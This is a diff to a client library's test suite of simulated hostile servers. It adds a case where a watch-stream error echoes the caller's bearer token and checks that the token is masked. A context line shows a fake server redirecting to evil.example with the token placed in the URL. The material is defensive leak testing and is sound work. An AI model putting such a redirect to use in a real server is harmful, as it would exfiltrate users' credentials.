@@ -276,6 +276,17 @@ export const hostileServers: readonly HostileServer[] = [
     expect: { told: { code: 'unauthorized', words: /the token Bearer \*\*\* is not known/ }, never: /SECRET-TOKEN/ },
   },
   {
+    name: 'the error that ends a watch repeats the token',
+    serve: where(isPods('watch'), ({ headers }) =>
+      answer(
+        200,
+        JSON_TYPE,
+        `{"type":"ERROR","object":${status(500, `the token ${headers.authorization ?? ''} is not known`)}}\n`,
+      ),
+    ),
+    expect: { told: { code: 'server-error', words: /the token Bearer \*\*\* is not known/ }, never: /SECRET-TOKEN/ },
+  },
+  {
     name: 'a redirect repeats the token',
     serve: where(isPods('list'), ({ headers }) =>
       answer(302, 'text/plain', '', { location: `https://evil.example/${(headers.authorization ?? '').slice(7)}?x` }),
